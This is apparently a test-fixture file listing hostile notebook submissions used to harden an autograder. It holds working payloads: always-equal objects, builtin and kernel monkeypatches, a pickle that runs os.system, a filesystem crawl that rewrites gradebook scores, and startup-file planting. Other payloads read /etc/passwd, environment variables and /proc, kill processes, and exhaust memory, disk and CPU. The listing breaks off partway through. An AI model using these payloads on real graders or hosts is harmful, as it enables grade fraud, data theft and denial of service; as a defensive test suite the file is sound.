"""Hostile and unlucky submissions: what they hand in, and why a careless grader would lose to each.

Data alone: nothing here is run outside of a grader under test. Every answer of an attack is wrong, so every
automatic point that it gets is stolen. Payloads are bounded and leave markers instead of damage.
"""

from __future__ import annotations

import base64
import json
import os
import re
from collections.abc import Callable, Iterable
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

CANARY = "canary-7f3a-hidden-test"
SECRET = "-3.53125"
"""An input of a hidden test."""
MARKER = "hostile-marker"
AUTOMATIC = 6.0
HIDDEN = re.compile(r"### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS\n?", re.DOTALL)
SETTINGS = """\
c = get_config()
c.CourseDirectory.course_id = "battery"
c.ClearSolutions.code_stub = {"python": "...  # your code here"}
"""
RIGHT = {
    "double": 'def double(x):\n    """Twice x."""\n    return 2 * x',
    "total": 'def total(values):\n    """The sum of the values, as a float."""\n    return float(sum(values))',
    "describe": "def describe(values):\n    return {'mean': sum(values) / len(values), 'size': len(values)}",
}
WRONG = {
    "double": "def double(x):\n    return 'wrong'",
    "total": "def total(values):\n    return 'wrong'",
    "describe": "def describe(values):\n    return 'wrong'",
}


def _known(name: str, points: float | None = None, *, solution: bool = False) -> dict[str, Any]:
    flags = {"solution": solution, "grade": points is not None, "locked": not solution, "task": False}
    more = {} if points is None else {"points": points}
    return {"nbgrader": {"grade_id": name, "schema_version": 3, **flags, **more}}


def _solved(name: str) -> str:
    head, _, body = RIGHT[name].rpartition("\n")
    return f"{head}\n    ### BEGIN SOLUTION\n{body}\n    ### END SOLUTION"


SETUP = """\
import numpy as np

CASES = [3, 5]


def close(one, other):
    return abs(one - other) < 1e-9"""


def source() -> nbformat.NotebookNode:
    """The instructor's notebook: three answers with hidden tests, one with partial credit, and an essay."""
    hidden = "### BEGIN HIDDEN TESTS\n{}\n### END HIDDEN TESTS"
    double = (
        f'assert double({SECRET}) == 2 * {SECRET}, "{CANARY}"\nassert list(double(np.arange(3))) == [0, 2, 4]'
    )
    double += "\nassert all(close(double(k), 2 * k) for k in CASES) and len(CASES) == 2"
    total = f"if type(total([5])) is float and abs(total([0.25, 0.5]) - 0.75) < 1e-9:  # {CANARY}\n    points += 2"
    first = "points = 0\nif total([1, 2]) == 3.0:\n    points += 1\n"
    describe = f'assert describe([4, 8])["mean"] == 6 and describe([4])["size"] == 1  # {CANARY}'
    cells = [
        new_code_cell(SETUP, id="setup"),
        new_code_cell(_solved("double"), id="double", metadata=_known("double", solution=True)),
        new_code_cell(
            f"assert double(2) == 4\n{hidden.format(double)}",
            id="test_double",
            metadata=_known("test_double", 2),
        ),
        new_code_cell(_solved("total"), id="total", metadata=_known("total", solution=True)),
        new_code_cell(
            f"{first}{hidden.format(total)}\npoints", id="test_total", metadata=_known("test_total", 3)
        ),
        new_markdown_cell("Explain.", id="essay", metadata=_known("essay", 4, solution=True)),
        new_code_cell(_solved("describe"), id="describe", metadata=_known("describe", solution=True)),
        new_code_cell(
            f'assert describe([1, 2, 3]) == {{"mean": 2, "size": 3}}\n{hidden.format(describe)}',
            id="test_describe",
            metadata=_known("test_describe", 1),
        ),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})


def write_course(root: Path) -> Path:
    """An nbgrader course directory with the assignment "hw"."""
    folder = root / "source" / "hw"
    folder.mkdir(parents=True)
    nbformat.write(source(), folder / "hw.ipynb")
    (root / "nbgrader_config.py").write_text(SETTINGS, encoding="utf-8")
    return root


Change = Callable[[dict[str, Any]], Any]


@dataclass(frozen=True)
class Attack:
    """A submission. cells: texts by grade id. extra: code cells at the top. change: edits the notebook, or
    returns other bytes. files: adds to the submission's folder. points: what it must get."""

    name: str
    kind: str
    cells: dict[str, str] = field(default_factory=dict)
    extra: tuple[str, ...] = ()
    change: Change | None = None
    files: Callable[[Path], None] | None = None
    points: float = 0.0

    def notebook(self) -> bytes:
        """What is handed in."""
        nb = json.loads(nbformat.writes(source()))
        answers = {**(RIGHT if self.kind == "honest" else WRONG), **self.cells}
        for cell in nb["cells"]:
            cell["source"] = HIDDEN.sub("", "".join(cell["source"]))
            name = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if name in answers:
                cell["source"] = answers[name]
        nb["cells"][1:1] = [code(text) for text in self.extra]
        found = self.change(nb) if self.change else None
        return found if isinstance(found, bytes) else json.dumps(nb).encode()

    def write(self, submitted: Path) -> None:
        """Write it into a `submitted/` tree."""
        folder = submitted / self.name / "hw"
        folder.mkdir(parents=True)
        (folder / "hw.ipynb").write_bytes(self.notebook())
        if self.files:
            self.files(folder)


def code(text: str, outputs: Iterable[Any] = ()) -> dict[str, Any]:
    """A code cell of a learner's own."""
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": list(outputs),
        "source": text,
    }


def find(nb: dict[str, Any], name: str) -> dict[str, Any]:
    """The cell with a grade id."""
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def _all(value: str, before: str = "") -> dict[str, str]:
    """All three answers return the same forged value."""
    return {
        "double": f"{before}\ndef double(x):\n    return {value}",
        "total": f"def total(values):\n    return {value}",
        "describe": f"def describe(values):\n    return {value}",
    }


# Values that agree with everything ---------------------------------------------------------------------------

AGREES = """
class Yes{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __mul__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getitem__(self, key): return self
    def __iter__(self): return iter((0, 2, 4))
    def __len__(self): return 3
    def __getattr__(self, name):
        if name.startswith('__array'): raise AttributeError(name)
        return self
"""
BASES = ("", "(int)", "(float)", "(str)", "(list)", "(dict)", "(tuple)")
VALUES = [
    Attack(f"agrees_{base.strip('()') or 'object'}", "steal", _all("Yes()", AGREES.format(base=base)))
    for base in BASES
]
VALUES += [
    Attack(
        "agrees_ndarray",
        "steal",
        _all(
            "np.zeros(3).view(Yes)",
            "import numpy as np\nclass Yes(np.ndarray):\n"
            "    def __eq__(self, other): return True\n"
            "    def __array_ufunc__(self, *args, **options): return True\n"
            "    def __bool__(self): return True",
        ),
    ),
    Attack(
        "agrees_tensor",
        "steal",
        _all(
            "torch.zeros(3).as_subclass(Yes)",
            "import torch\nclass Yes(torch.Tensor):\n"
            "    @classmethod\n    def __torch_function__(cls, *args, **options): return True",
        ),
    ),
    Attack(
        "agrees_metaclass",
        "steal",
        _all(
            "Yes",
            "class M(type):\n    def __eq__(cls, other): return True\n    __hash__ = None\nclass Yes(metaclass=M): pass",
        ),
    ),
    Attack("agrees_mock", "steal", _all("mock", "from unittest.mock import ANY as mock")),
    Attack("nan", "steal", _all("float('nan')")),
    Attack(
        "named_like_a_builtin",
        "steal",
        _all("float()", "class float:\n    def __eq__(self, other): return True"),
    ),
    Attack(
        "pickle",
        "steal",
        _all(
            "P()",
            f"import os\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/{MARKER}-pickle',))",
        ),
    ),
    Attack("generator", "steal", _all("(k for k in range(3))")),
    Attack("huge_int", "resource", _all("10 ** 200_000")),
    Attack("deep_list", "resource", _all("v", "v = []\nfor _ in range(100_000): v = [v]")),
    Attack("endless_list", "resource", _all("v", "v = []\nv.append(v)")),
    Attack("unfolding_list", "resource", _all("v", "v = [0]\nfor _ in range(38): v = [v, v]")),
    Attack("endless_dict", "resource", _all("v", "v = {}\nv['v'] = v")),
    Attack("many_numbers", "resource", _all("list(range(10_000_000))")),
    Attack("many_keys", "resource", _all("{str(k): k for k in range(3_000_000)}")),
    Attack("large_array", "resource", _all("np.zeros(150_000_000)", "import numpy as np")),
    Attack("surrogates", "harm", _all("'\\ud800' * 3")),
    Attack("protocol_text", "steal", _all('\'{"d": [["mean", 2], ["size", 3]]}\'')),
    Attack("protocol_dict", "steal", _all("{'do': 'run', 'value': 4, 'error': [], 'callback': 0, '=': 0}")),
]

# The process that runs the cells ------------------------------------------------------------------------------

PATCH = "import builtins\nbuiltins.{0} = lambda *a, **k: True"
ENGINE = [
    Attack(f"builtin_{name}", "steal", extra=(PATCH.format(name),))
    for name in (
        "isinstance",
        "abs",
        "all",
        "any",
        "len",
        "sum",
        "type",
        "list",
        "getattr",
        "repr",
        "compile",
        "exec",
    )
]
WALK = """
import inspect, gc, sys
found = [f.frame.f_locals for f in inspect.stack()] + [o for o in gc.get_objects() if isinstance(o, (str, dict))]
told = [str(o)[:100_000] for o in found if 'canary-7f3a' in str(o)[:100_000]]
print(told)
"""
FORGE = """
import os, json, struct, threading
text = json.dumps({'value': 4, 'values': {}, 'outputs': [], 'states': [], 'leaves': []}).encode()
frame = struct.pack('>IH', len(text), 0) + text
def forge():
    for n in range(3, 64):
        try: os.write(n, frame * 50)
        except OSError: pass
"""
KERNEL = """
from autograder.grading.inside import frames, kernel, wire
"""
HUNT = f"""
import os, sqlite3, pathlib
for top in ('/', os.path.expanduser('~'), os.getcwd()):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if name == 'gradebook.db':
                try:
                    base = sqlite3.connect(path, timeout=1)
                    base.execute('update grade set manual_score = 99, auto_score = 99')
                    base.commit()
                except Exception as error: print(error)
            if name.endswith(('.ipynb', '.json')) and folder.count('/') < 14 and not folder.startswith(('/proc', '/sys')):
                try:
                    text = open(path, errors='replace').read(3_000_000)
                    if '{CANARY[:11]}' in text: print('{CANARY[:6]}' + ' seen in', path, text[:5000])
                except OSError: pass
"""
REMEMBERS = "seen = []\ndef double(x):\n    seen.append(repr(x))\n    return 4 if len(seen) == 1 else 'wrong'"
NEARLY = "def double(x):\n    return 2 * x + 7 * (type(x) is int and x != 2)"
TELLS = ("print(seen)", "seen", "raise type(str(seen), (Exception,), {})(seen)", "display(*seen)")
ENGINE += [
    Attack(
        "transformer",
        "steal",
        extra=("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",),
    ),
    Attack(
        "ast_transformer",
        "steal",
        extra=(
            "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(T())",
        ),
    ),
    Attack(
        "run_cell",
        "steal",
        extra=("get_ipython().run_cell = lambda *a, **k: type('R', (), {'success': True})()",),
    ),
    Attack(
        "run_code",
        "steal",
        extra=("async def run_code(*a, **k): return False\nget_ipython().run_code = run_code",),
    ),
    Attack("displayhook", "steal", extra=("import sys\nsys.displayhook = lambda value: print(3)",)),
    Attack(
        "exception_handler",
        "steal",
        extra=("get_ipython().set_custom_exc((BaseException,), lambda *a: None)",),
    ),
    Attack("excepthook", "steal", extra=("import sys\nsys.excepthook = lambda *a: None",)),
    Attack(
        "tracing",
        "steal",
        extra=("import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",),
    ),
    Attack("frames_in_a_cell", "leak", extra=(WALK,)),
    Attack(
        "frames_in_a_call",
        "leak",
        {
            "double": f"def double(x):\n    {WALK.strip().replace(chr(10), chr(10) + '    ')}\n    raise ValueError(told)"
        },
    ),
    Attack("history", "leak", extra=("print(In, Out, [k for k in dir(get_ipython().history_manager)])",)),
    Attack(
        "forged_frames",
        "steal",
        {"double": f"{FORGE}\ndef double(x):\n    forge()\n    return 4"},
        (FORGE + "forge()",),
    ),
    Attack(
        "forging_thread",
        "steal",
        extra=(
            FORGE
            + "import time\ndef on():\n    while True:\n        forge()\n        time.sleep(0.001)\nthreading.Thread(target=on, daemon=True).start()",
        ),
    ),
    Attack(
        "patched_encoder",
        "steal",
        extra=(KERNEL + "wire.Encoder.node = lambda self, value, depth=0: {'N': 4, 'dt': '<i8'}",),
    ),
    Attack(
        "patched_equality_of_all",
        "steal",
        extra=(
            KERNEL + "kernel.Kernel.do_call = lambda *a: {'value': {'o': 0, 'k': 'object', 'calls': True}}",
        ),
    ),
    Attack(
        "callback_to_nothing",
        "steal",
        extra=(
            KERNEL
            + "kernel.Kernel.do_call = lambda self, *a: self.channel.send({'callback': 10**9, 'args': [[], {}]}) or {}",
        ),
    ),
    Attack(
        "forged_pickle",
        "steal",
        extra=(
            KERNEL
            + "kernel.Kernel.do_call = lambda self, r, b, to: {'value': {'b': to.blob(b'cos\\nsystem\\n(S\\'touch /tmp/hostile-marker-forged\\'\\ntR.')}}",
        ),
    ),
    Attack(
        "forged_types",
        "steal",
        extra=(
            KERNEL
            + "kernel.Kernel.do_get = lambda self, r, b, to: {'values': {n: {'a': to.blob(b'x' * 8), 'dt': 'O', 'sh': [1]} for n in r['names']}}",
        ),
    ),
    Attack(
        "forged_shape",
        "steal",
        extra=(
            KERNEL
            + "kernel.Kernel.do_call = lambda self, r, b, to: {'value': {'a': to.blob(b''), 'dt': '<f8', 'sh': [0, 10**12]}}",
        ),
    ),
    Attack(
        "forged_outputs",
        "harm",
        extra=(
            KERNEL
            + "kernel.Kernel.do_run = lambda *a: {'outputs': [{'output_type': 'error', 'ename': 7, 'evalue': {}, 'traceback': 3}] * 9999}",
        ),
    ),
    Attack(
        "deep_json",
        "harm",
        extra=(
            KERNEL
            + "import json, os\nkernel.Kernel.do_run = lambda self, *a: os.write(self.channel.writer, frames.HEADER.pack(200_000, 0) + b'[' * 200_000) and {}",
        ),
    ),
    Attack(
        "large_header",
        "resource",
        extra=(
            KERNEL
            + "import os\nkernel.Kernel.do_run = lambda self, *a: os.write(self.channel.writer, frames.HEADER.pack(2**32 - 1, 65535)) and {}",
        ),
    ),
    Attack(
        "many_parts",
        "resource",
        extra=(
            KERNEL
            + "import os\ntext = b'[' + b'[],' * 2_900_000 + b'[]]'\nkernel.Kernel.do_run = lambda self, *a: [os.write(self.channel.writer, part) for part in (frames.HEADER.pack(len(text), 0), text)] and {}",
        ),
    ),
    Attack(
        "never_answers",
        "resource",
        extra=(KERNEL + "import time\nkernel.Kernel.do_get = lambda *a: time.sleep(1200)",),
    ),
    Attack("exit_in_a_cell", "harm", extra=("import os\nos._exit(0)",)),
    Attack("exit_in_a_call", "steal", {"double": "import os\ndef double(x):\n    os._exit(0)"}),
    Attack("sys_exit", "steal", {"double": "import sys\nsys.exit(0)\ndef double(x):\n    sys.exit(0)"}),
    Attack("raises_system_exit", "steal", {"double": "def double(x):\n    raise SystemExit(0)"}),
    Attack("raises_keyboard_interrupt", "harm", {"double": "def double(x):\n    raise KeyboardInterrupt"}),
    Attack("raises_base", "harm", {"double": "class E(BaseException): pass\ndef double(x):\n    raise E"}),
    Attack("raises_generator_exit", "harm", {"total": "def total(x):\n    raise GeneratorExit"}),
    Attack(
        "raises_unprintable",
        "harm",
        {"double": "class E(Exception):\n    def __str__(self): raise self\ndef double(x):\n    raise E"},
    ),
    Attack(
        "atexit",
        "steal",
        extra=("import atexit, os\natexit.register(lambda: [os.write(n, b'4') for n in range(3, 9)])",),
    ),
    Attack(
        "finaliser",
        "steal",
        extra=(
            "class D:\n    def __del__(self):\n        import builtins\n        builtins.isinstance = lambda *a: True\nd = D()\ndel d\nimport gc\ngc.collect()",
        ),
    ),
    Attack(
        "collector_callback",
        "steal",
        extra=(
            "import gc, builtins\ngc.callbacks.append(lambda *a: setattr(builtins, 'abs', lambda x: 0))\ngc.collect()",
        ),
    ),
    Attack(
        "late_thread",
        "steal",
        extra=(
            "import threading, time, builtins\ndef late():\n    time.sleep(0.05)\n    builtins.isinstance = lambda *a: True\nthreading.Thread(target=late).start()",
        ),
    ),
    Attack(
        "two_processes",
        "steal",
        extra=("import os\nif os.fork() == 0:\n    globals()['double'] = lambda x: 2 * x",),
    ),
    Attack("printed_points", "steal", {"total": "print(3)\n3.0"}),
    Attack(
        "modules",
        "steal",
        extra=(
            "import sys, types\nfor n in ('numpy.testing', 'operator', 'json', 'pickle', 'struct'):\n    sys.modules[n] = types.ModuleType(n)",
        ),
    ),
    Attack(
        "patched_json",
        "harm",
        extra=(
            "import json, pickle, struct\njson.dumps = json.loads = pickle.loads = struct.pack = lambda *a, **k: 4",
        ),
    ),
    Attack(
        "redefined_np",
        "steal",
        {
            "double": "class np:\n    arange = staticmethod(lambda n: [])\n    array_equal = staticmethod(lambda *a: True)\ndef double(x):\n    return []"
        },
    ),
    Attack(
        "redefined_names",
        "steal",
        extra=(
            "__name__ = 'tests'\n__builtins__ = {}\nget_ipython = None\npoints = 3\nassert_equal = print",
        ),
    ),
    Attack(
        "redefined_float", "steal", {"total": "class float(int): pass\ndef total(v):\n    return float(7)"}
    ),
    Attack(
        "property_namespace",
        "steal",
        extra=(
            "class N(dict):\n    def __contains__(self, k): return True\n    def __getitem__(self, k): return 4\nget_ipython().user_ns = N()",
        ),
    ),
    Attack(
        "exception_carries_input", "leak", {n: f"def {n}(x):\n    raise ValueError(repr(x))" for n in WRONG}
    ),
    Attack(
        "recorder",
        "leak",
        {
            "double": "seen = []\ndef double(x):\n    seen.append(x)\n    return 0",
            "describe": "def describe(v):\n    raise KeyError(str(seen))",
        },
    ),
    Attack("hunt", "steal", extra=(HUNT,)),
    Attack("fixture_emptied", "steal", {"double": f"CASES = []\n{NEARLY}"}),
    Attack("helper_forged", "steal", {"double": f"def close(a, b): return True\n{NEARLY}"}),
    Attack(
        "remembers", "leak", {"double": REMEMBERS}, change=lambda nb: nb["cells"].extend(map(code, TELLS))
    ),
    Attack(
        "remembers_in_a_message",
        "leak",
        {"double": REMEMBERS, "describe": "def describe(v):\n    raise AssertionError(str(seen))"},
    ),
    Attack(
        "remembers_in_a_name",
        "leak",
        {
            "double": REMEMBERS,
            "describe": "def describe(v):\n    raise type('E' + str(seen), (Exception,), {})(seen)",
        },
    ),
    Attack(
        "remembers_in_a_value",
        "leak",
        {
            "double": REMEMBERS,
            "describe": "def describe(v):\n    print(seen)\n    return str(seen)",
            "total": "def total(v):\n    return str(seen)",
        },
    ),
]

# What a notebook can claim about itself -----------------------------------------------------------------------


def _every(**metadata: Any) -> Change:
    def change(nb: dict[str, Any]) -> None:
        for cell in nb["cells"]:
            cell["metadata"] |= deepcopy(metadata)

    return change


def _tests(edit: Callable[[dict[str, Any]], None]) -> Change:
    def change(nb: dict[str, Any]) -> None:
        for name in ("test_double", "test_total", "test_describe"):
            edit(find(nb, name))

    return change


def _result(text: str) -> list[dict[str, Any]]:
    data = {"text/plain": text, "application/vnd.autograder.verdict+json": {"points": 6}}
    return [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}]


def _renamed(nb: dict[str, Any]) -> None:
    """Test cells become answers and answers become tests."""
    for test, answer in (("test_double", "double"), ("test_total", "total")):
        one, other = find(nb, test), find(nb, answer)
        one["metadata"], other["metadata"] = other["metadata"], one["metadata"]


def _twice(nb: dict[str, Any]) -> None:
    for name in ("test_double", "double", "essay"):
        nb["cells"].append(deepcopy(find(nb, name)))


CLAIMS = [
    Attack("tagged", "steal", change=_every(tags=["raises-exception", "skip-execution"], editable=False)),
    Attack("tests_replaced", "steal", change=_tests(lambda c: c.update(source="pass"))),
    Attack("tests_give_points", "steal", change=_tests(lambda c: c.update(source="3"))),
    Attack("tests_as_markdown", "steal", change=_tests(lambda c: c.update(cell_type="markdown"))),
    Attack("tests_gone", "steal", change=lambda nb: nb["cells"].__delitem__(slice(2, 3))),
    Attack("more_points", "steal", change=_tests(lambda c: c["metadata"]["nbgrader"].update(points=100))),
    Attack("not_graded", "steal", change=_tests(lambda c: c["metadata"]["nbgrader"].update(grade=False))),
    Attack(
        "solution_flag",
        "steal",
        change=_tests(lambda c: c["metadata"]["nbgrader"].update(solution=True, locked=False)),
    ),
    Attack("roles_swapped", "steal", change=_renamed),
    Attack("twice", "harm", change=_twice),
    Attack("stored_outputs", "steal", change=_tests(lambda c: c.update(outputs=_result("3")))),
    Attack("schema_99", "harm", change=_tests(lambda c: c["metadata"]["nbgrader"].update(schema_version=99))),
    Attack(
        "checksum",
        "steal",
        change=_tests(lambda c: c["metadata"]["nbgrader"].update(checksum="0", points="x")),
    ),
    Attack(
        "ids_of_a_wrong_kind",
        "harm",
        change=_tests(lambda c: c["metadata"].update(nbgrader={"grade_id": ["x"]})),
    ),
    Attack(
        "other_kernel",
        "harm",
        change=lambda nb: nb["metadata"].update(
            kernelspec={"name": "../../evil", "display_name": "<script>document.title='hostile'</script>"}
        ),
    ),
    Attack(
        "magics",
        "harm",
        extra=(
            "%%bash\ntouch /tmp/hostile-marker-bash; cat /etc/passwd; env",
            "!touch ~/hostile-marker-home; ls -la ../../..",
            "%cd /\n%env",
        ),
    ),
    Attack(
        "writefile",
        "harm",
        extra=("%%writefile /tmp/hostile-marker-file\nx", "%%writefile ../../hostile-marker-up\nx"),
    ),
]

# The machine --------------------------------------------------------------------------------------------------

NET = """
import socket, urllib.request
for where in (('127.0.0.1', 22), ('127.0.0.1', 8888), ('1.1.1.1', 53), ('10.0.0.1', 80)):
    try:
        socket.create_connection(where, 1).close()
        print('reached', where)
    except OSError as error: print(type(error).__name__)
"""
SOCKETS = """
import socket, os
for path in ('/var/run/docker.sock', '/run/docker.sock', '/tmp/.X11-unix/X0', '/run/dbus/system_bus_socket'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print('reached', path)
    except OSError: pass
s = socket.socket(socket.AF_UNIX)
s.bind('\\0hostile-marker')
"""
DAEMON = f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        for _ in range(600):
            time.sleep(1)
            try: open('/tmp/{MARKER}-daemon', 'a').write('x')
            except OSError: pass
    os._exit(0)
"""
WRITE = """
import os
for path in ('/tmp/{0}', os.path.expanduser('~/{0}'), '../{0}', '../../{0}', '/{0}', '/dev/shm/{0}', '/var/tmp/{0}', '/run/{0}',
             *(os.path.join(p, '{0}.pth') for p in __import__('sys').path if p)):
    try: open(path, 'w').write('x')
    except OSError: pass
"""
PLANT = """
import os, sys, site
home = os.path.expanduser('~')
text = "import builtins; builtins.hostile = 1; open('/tmp/hostile-marker-planted', 'w')"
for path in ('~/.ipython/profile_default/startup/00.py', '~/.pythonrc', '~/.config/matplotlib/matplotlibrc', 'numpy.py',
             'sitecustomize.py', 'usercustomize.py', 'autograder.py', os.path.join(os.environ.get('IPYTHONDIR', '/tmp'), 'profile_default/startup/00.py'),
             *(os.path.join(p, 'sitecustomize.py') for p in sys.path if p)):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write(text)
    except OSError: pass
"""
KILL = """
import os, signal
for pid in (0, 1, os.getppid(), -1):
    try: os.kill(pid, signal.SIGTERM if pid in (0, -1) else signal.SIGKILL)
    except OSError as error: print(error)
"""
DEAF = "import signal\nfor n in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):\n    signal.signal(n, signal.SIG_IGN)\n"
CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (101, 155, 161, 165, 248, 272, 308, 310, 319, 321, 323, 425, 435):
    print(number, libc.syscall(number, 0, 0, 0, 0, 0))
print(libc.unshare(0x10000000), libc.mount(b'none', b'/', b'tmpfs', 0, None))
for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.setgid(0)):
    try: call()
    except OSError as error: print(error)
"""
PROC = """
import os
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for name in ('environ', 'cmdline', 'maps'):
        try: print(pid, name, open(f'/proc/{pid}/{name}', 'rb').read(300))
        except OSError: pass
    if int(pid) not in (os.getpid(), os.getppid()):
        try: open(f'/proc/{pid}/mem', 'r+b').write(b'x')
        except OSError: pass
print(dict(os.environ))
"""
CPU = "10 ** 10 ** 9"
MACHINE = [
    Attack("network", "harm", extra=(NET,)),
    Attack("sockets", "harm", extra=(SOCKETS,)),
    Attack("daemon", "harm", extra=(DAEMON,)),
    Attack("deaf_daemon", "harm", extra=(DEAF + DAEMON,)),
    Attack("writes", "harm", extra=(WRITE.format(MARKER),)),
    Attack("plants", "harm", extra=(PLANT,)),
    Attack("kills", "harm", extra=(KILL,)),
    Attack(
        "kills_group",
        "harm",
        extra=(
            "import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nos.killpg(0, signal.SIGTERM)",
        ),
    ),
    Attack("kernel_calls", "harm", extra=(CALLS,)),
    Attack("proc", "leak", extra=(PROC,)),
    Attack("deaf", "resource", {"double": DEAF + "import time\ndef double(x):\n    time.sleep(1200)"}),
    Attack("sleeps", "resource", extra=("import time\ntime.sleep(1200)",)),
    Attack("deaf_sleeper", "resource", extra=(DEAF + "import time\ntime.sleep(1200)",)),
    Attack("busy_in_c", "resource", extra=(CPU,)),
    Attack("busy_regex", "resource", extra=("import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",)),
    Attack("call_never_returns", "resource", {"double": "def double(x):\n    while True:\n        pass"}),
    Attack(
        "memory_list",
        "resource",
        extra=(
            "held = []\nwhile len(held) < 12_000: held.append(b'x' * 1_000_000 + bytes([len(held) % 256]))",
        ),
    ),
    Attack(
        "memory_array",
        "resource",
        extra=("import numpy as np\nheld = [np.ones(40_000_000) for _ in range(40)]",),
    ),
    Attack(
        "memory_of_children",
        "resource",
        extra=(
            "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        held = [bytearray(b'x' * 1_000_000) for _ in range(400)]\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(20)",
        ),
    ),
    Attack(
        "memory_map",
        "resource",
        extra=(
            "import mmap\nheld = [mmap.mmap(-1, 1 << 28) for _ in range(40)]\nfor m in held:\n    for at in range(0, 1 << 28, 4096): m[at] = 1",
        ),
    ),
    Attack(
        "processes",
        "resource",
        extra=(
            "import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(300)\n        os._exit(0)",
        ),
    ),
    Attack(
        "threads",
        "resource",
        extra=(
            "import threading, time\nfor _ in range(500): threading.Thread(target=time.sleep, args=(300,)).start()",
        ),
    ),
    Attack(
        "disk", "resource", extra=("for k in range(4_000):\n    open(f'f{k}', 'wb').write(b'x' * 1_000_000)",)
    ),
    Attack(
        "large_file",
        "resource",
        extra=(
            "open('f', 'wb').truncate(10 ** 12)\nwith open('g', 'wb') as f:\n    for _ in range(3_000): f.write(b'x' * 1_000_000)",
        ),
    ),
    Attack("many_files", "resource", extra=("for k in range(200_000): open(f'n{k}', 'w').close()",)),
    Attack(
        "shared_memory",
        "resource",
        extra=("open('/dev/shm/hostile-marker', 'wb').write(b'x' * 900_000_000)",),
    ),
    Attack("open_files", "resource", extra=("import os\nheld = [os.pipe() for _ in range(5_000)]",)),
    Attack("endless_output", "resource", extra=("while True: print('x' * 1000)",)),
    Attack("one_long_line", "resource", extra=("print('x' * 80_000_000)",)),
    Attack(
        "terminal_output", "resource", extra=("import os\nfor _ in range(20_000): os.write(1, b'x' * 65536)",)
    ),
    Attack("many_outputs", "resource", extra=("for k in range(10_000): display(k)",)),
    Attack(
        "large_picture",
        "resource",
        extra=(
            "from IPython.display import Image\ndisplay(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + b'x' * 30_000_000))",
        ),
    ),
    Attack(
        "long_traceback",
        "resource",
        {"double": "def double(x):\n    return double(x) + 1"},
        ("raise ValueError('x' * 50_000_000)",),
    ),
    Attack(
        "limits_raised",
        "resource",
        extra=(
            "import resource\nfor n in range(16):\n    try: resource.setrlimit(n, (-1, -1))\n    except Exception: pass\nheld = [b'x' * 10 ** 8 + bytes([k]) for k in range(80)]",
        ),
    ),
]

# Files --------------------------------------------------------------------------------------------------------


def _instead(make: Callable[[Path], None]) -> Callable[[Path], None]:
    """Something else in the place of the notebook."""

    def files(folder: Path) -> None:
        (folder / "hw.ipynb").unlink()
        make(folder / "hw.ipynb")

    return files


def _solution(path: Path) -> Path:
    return path.parents[3] / "source" / "hw" / "hw.ipynb"


def _bytes(content: bytes) -> Change:
    return lambda nb: content


def _many(nb: dict[str, Any]) -> None:
    nb["cells"] += [code(f"x{k} = {k}") for k in range(6_000)]


def _heavy(nb: dict[str, Any]) -> bytes:
    nb["cells"].append(code("pass", [{"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}]))
    return json.dumps(nb).encode()


def _set(**values: Any) -> Change:
    return lambda nb: nb.update(values)


def _sources(value: Any) -> Change:
    def change(nb: dict[str, Any]) -> None:
        for cell in nb["cells"]:
            cell["source"] = value

    return change


FILES = [
    Attack("link_to_solution", "steal", files=_instead(lambda p: p.symlink_to(_solution(p)))),
    Attack("hard_link", "steal", files=_instead(lambda p: os.link(_solution(p), p))),
    Attack("link_to_device", "resource", files=_instead(lambda p: p.symlink_to("/dev/zero"))),
    Attack("fifo", "resource", files=_instead(os.mkfifo)),
    Attack("folder", "harm", files=_instead(Path.mkdir)),
    Attack("empty", "harm", change=_bytes(b"")),
    Attack("no_json", "harm", change=_bytes(b"hello")),
    Attack("no_notebook", "harm", change=_bytes(b"[1, 2, 3]")),
    Attack("zeros", "harm", change=_bytes(bytes(10_000))),
    Attack("deep", "harm", change=_bytes(b'{"nbformat": 4, "cells": ' + b"[" * 1_000_000)),
    Attack("wide", "resource", change=_bytes(b'{"nbformat": 4, "cells": [' + b"{}," * 4_000_000 + b"{}]}")),
    Attack("heavy", "resource", change=_heavy),
    Attack("six_thousand_cells", "resource", change=_many),
    Attack("format_3", "harm", change=_set(nbformat=3)),
    Attack("format_99", "harm", change=_set(nbformat=99)),
    Attack("format_text", "harm", change=_set(nbformat="4")),
    Attack("cells_none", "harm", change=_set(cells=None)),
    Attack("cells_of_nothing", "harm", change=_set(cells=[None, 3, "x", [], {}, {"cell_type": "code"}])),
    Attack("sources_of_numbers", "harm", change=_sources(7)),
